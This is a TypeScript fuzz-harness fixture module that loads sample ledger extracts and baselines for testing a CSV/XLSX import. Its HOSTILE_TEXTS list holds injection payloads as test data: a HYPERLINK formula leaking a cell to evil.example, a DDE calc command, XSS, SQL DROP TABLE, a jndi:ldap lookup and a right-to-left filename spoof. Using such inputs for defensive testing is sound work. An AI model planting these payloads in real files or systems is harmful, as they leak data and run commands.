// What the import fuzz works from: the Sheffield example's agreement and ledger settings, its
// six hand-checked extracts (Windows-1252 and UTF-8 CSVs, an XLSX), and each extract's baseline
// (lines, control total, every raw row) as the reader gives it today — the figures that
// content-preserving mutations must reproduce exactly. The baseline itself is checked against
// the hand-computed EXPECTED.md by test/app-import.test.ts.

import { existsSync, readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { Agreement, ExtractLimits, FileSettings } from '../../src/domain/agreement.js';
import { loadAgreementFile } from '../../src/agreement/load.js';
import { openExtract } from '../../src/import/extract.js';

export type LedgerId = 'scc' | 'sccg';

/** What a case must end in. */
export type Expect =
  | { kind: 'any' }
  | { kind: 'import'; lines: number; totalPence: number; raw?: { lineNo: number; column: number; text: string }[] }
  /** Rejected with one of `codes`; on one of `lines` too, when given (a problem of one of the codes is there). */
  | { kind: 'reject'; codes: string[]; lines?: number[] };

export interface FuzzCase {
  /** The generator that made it (counts are kept per generator). */
  generator: string;
  ledger: LedgerId;
  ext: 'csv' | 'xlsx';
  /** The file's bytes; or `write`, for files too large to hold (written in pieces). */
  bytes?: Uint8Array;
  write?: (path: string) => void;
  /** The ledger's limits for this case (small ones meet a limit cheaply); default the defaults. */
  limits?: ExtractLimits;
  /** A generated CSV's line end character, for mutations that must know the physical lines. */
  newline?: '\n' | '\r';
  expect: Expect;
}

export interface Baseline {
  lines: number;
  totalPence: number;
  header: string[];
  /** Each line's physical line (row) number and raw fields, in file order. */
  rows: { lineNo: number; raw: string[] }[];
}

export interface Example {
  name: string;
  ledger: LedgerId;
  ext: 'csv' | 'xlsx';
  bytes: Buffer;
  baseline: Baseline;
}

export interface FuzzFixtures {
  agreementPath: string;
  agreement: Agreement;
  settings: Record<LedgerId, FileSettings>;
  examples: Example[];
}

/** The repository's root, from wherever this module runs (test/support or dist/test/support). */
export function repositoryRoot(): string {
  for (let dir = import.meta.dirname; dir !== dirname(dir); dir = dirname(dir)) {
    if (existsSync(join(dir, 'examples/sheffield/agreement.yaml'))) return dir;
  }
  throw new Error('cannot find examples/sheffield above the fuzz harness');
}

const EXAMPLES: [string, LedgerId][] = [
  ['scc/2025-26-M01.csv', 'scc'],
  ['scc/2025-26-M02.csv', 'scc'],
  ['scc/2025-26-M03.csv', 'scc'],
  ['sccg/2025-26-M01.csv', 'sccg'],
  ['sccg/2025-26-M02.csv', 'sccg'],
  ['sccg/2025-26-M03.xlsx', 'sccg'],
];

export async function loadFuzzFixtures(): Promise<FuzzFixtures> {
  const root = repositoryRoot();
  const agreementPath = join(root, 'examples/sheffield/agreement.yaml');
  const loaded = await loadAgreementFile(agreementPath);
  if (!loaded.ok) throw new Error(`the example agreement does not load: ${JSON.stringify(loaded.problems)}`);
  const { agreement } = loaded;
  const settingsOf = (id: LedgerId): FileSettings => agreement.ledgers.find((l) => l.id === id)!.file;
  const settings = { scc: settingsOf('scc'), sccg: settingsOf('sccg') };
  const examples: Example[] = [];
  for (const [file, ledger] of EXAMPLES) {
    const path = join(root, 'examples/sheffield/ledgers', file);
    const baseline = await readBaseline(path, settings[ledger], agreement.years);
    examples.push({ name: file, ledger, ext: file.endsWith('.xlsx') ? 'xlsx' : 'csv', bytes: readFileSync(path), baseline });
  }
  return { agreementPath, agreement, settings, examples };
}

async function readBaseline(path: string, settings: FileSettings, years: number[]): Promise<Baseline> {
  const opened = await openExtract(path, { fileName: path, settings, years, period: null, year: null });
  if (!opened.ok) throw new Error(`example ${path} does not open: ${JSON.stringify(opened.problems)}`);
  const baseline: Baseline = { lines: 0, totalPence: 0, header: opened.extract.header, rows: [] };
  for await (const chunk of opened.extract.chunks) {
    if (chunk.problems.length > 0) throw new Error(`example ${path} has problems: ${JSON.stringify(chunk.problems)}`);
    for (const line of chunk.lines) {
      baseline.lines++;
      baseline.totalPence += line.amountPence;
      baseline.rows.push({ lineNo: line.lineNo, raw: line.raw });
    }
  }
  return baseline;
}

/** Text that formula-injection, markup and SQL tricks are made of; kept as text by an import. */
export const HOSTILE_TEXTS: readonly string[] = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE lines; --",
  '${jndi:ldap://evil.example/a}',
  '{{7*7}} #{7*7}',
  '=1+1\n=2+2',
  'Care "home" fees, £1,234.56',
  '   padded both sides   ',
  'Fees &amp; charges &lt;b&gt; &#163;5',
  '',
];

/** More for UTF-8 files: text a Windows-1252 file cannot hold. */
export const HOSTILE_UNICODE: readonly string[] = [
  'Zoë Brontë-Dupré café',
  'pay \u202Etxt.exe',
  '💷 £ € ¥',
  'e\u0301 combining, zero\u200Bwidth, joiner\u200D',
  'line\u2028separator',
  '\uFEFFbom inside',
  '\u0001\u0002 control',
];
